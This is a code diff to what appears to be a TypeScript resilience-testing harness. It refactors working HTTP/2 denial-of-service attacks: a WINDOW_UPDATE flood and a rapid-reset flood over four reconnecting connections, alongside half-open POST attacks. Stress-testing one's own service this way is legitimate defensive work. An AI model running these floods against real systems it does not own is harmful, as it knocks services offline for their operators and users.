@@ -6,7 +6,6 @@
  */
 
 import http from "node:http";
-import { type ClientHttp2Session, connect as connectHttp2 } from "node:http2";
 import https from "node:https";
 import net, { type Socket } from "node:net";
 import { connect as connectTls } from "node:tls";
@@ -222,6 +221,28 @@ function readers(paths: readonly (readonly [surface: string, path: string])[]): 
   };
 }
 
+/** Writes frames to four HTTP/2 connections as fast as they are taken, and opens another for each that is closed. */
+async function onFour(
+  url: string,
+  traffic: Traffic,
+  untilMs: number,
+  frames: (round: number) => Buffer,
+): Promise<void> {
+  await Promise.all(Array.from({ length: 4 }, async (_, index) => {
+    while (performance.now() < untilMs) {
+      const socket = await open(traffic, url, { from: address(index), alpn: "h2" });
+      socket.resume();
+      if (socket.writable) socket.write(preface(65_535));
+      for (let round = 0; socket.writable && performance.now() < untilMs; round += 1) {
+        if (socket.write(frames(round))) await pause(0);
+        else await Promise.race([new Promise((settle) => socket.once("drain", settle)), pause(200)]);
+      }
+      socket.destroy();
+      await pause(50);
+    }
+  }));
+}
+
 /** Connections that begin a post and send nothing more, or a byte a second. */
 function halfPosts(count: number, { drips }: { drips: boolean }): AttackKind["run"] {
   return async ({ urls }, traffic, untilMs) => {
@@ -279,7 +300,7 @@ export const kinds: Readonly<Record<string, AttackKind>> = {
         socket.resume();
         traffic.requests += 100;
         if (socket.writable) {
-          socket.write(Buffer.concat([preface(0), requests(authority, "/api/openapi.json", 100)]));
+          socket.write(Buffer.concat([preface(0), requests(authority, "/api/openapi.json", { count: 100 })]));
         }
       });
       await stay(untilMs);
@@ -290,50 +311,21 @@ export const kinds: Readonly<Record<string, AttackKind>> = {
     needsTls: true,
     run: async ({ urls }, traffic, untilMs) => {
       const frames = flood("window_update", 4_000);
-      await Promise.all(Array.from({ length: 4 }, async (_, index) => {
-        while (performance.now() < untilMs) {
-          const socket = await open(traffic, String(urls.intake), { from: address(index), alpn: "h2" });
-          socket.resume();
-          if (socket.writable) socket.write(preface(65_535));
-          while (socket.writable && performance.now() < untilMs) {
-            traffic.requests += 4_000;
-            if (!socket.write(frames)) {
-              await Promise.race([new Promise((settle) => socket.once("drain", settle)), pause(200)]);
-            }
-          }
-          await pause(50);
-        }
-      }));
+      await onFour(String(urls.intake), traffic, untilMs, () => {
+        traffic.requests += 4_000;
+        return frames;
+      });
     },
   },
   rapid_reset: {
     about: "HTTP/2 requests that are reset as soon as they are sent, on 4 connections",
     needsTls: true,
     run: async ({ urls }, traffic, untilMs) => {
-      await Promise.all(Array.from({ length: 4 }, async (_, index) => {
-        while (performance.now() < untilMs) {
-          const session: ClientHttp2Session = connectHttp2(
-            String(urls.intake),
-            {
-              rejectUnauthorized: false,
-              localAddress: address(index),
-            } as Parameters<typeof connectHttp2>[1],
-          );
-          session.on("error", () => {});
-          session.once("connect", (_session, socket) => traffic.watch(socket as Socket));
-          while (!session.closed && !session.destroyed && performance.now() < untilMs) {
-            for (let n = 0; n < 50 && !session.closed && !session.destroyed; n += 1) {
-              const stream = session.request({ ":path": "/api/openapi.json" });
-              stream.on("error", () => {});
-              stream.close(8);
-              traffic.requests += 1;
-            }
-            await pause(1);
-          }
-          session.destroy();
-          await pause(50);
-        }
-      }));
+      const authority = new URL(String(urls.intake)).host;
+      await onFour(String(urls.intake), traffic, untilMs, (round) => {
+        traffic.requests += 100;
+        return requests(authority, "/api/openapi.json", { count: 100, first: 100 * round, isReset: true });
+      });
     },
   },
   half_posts: {
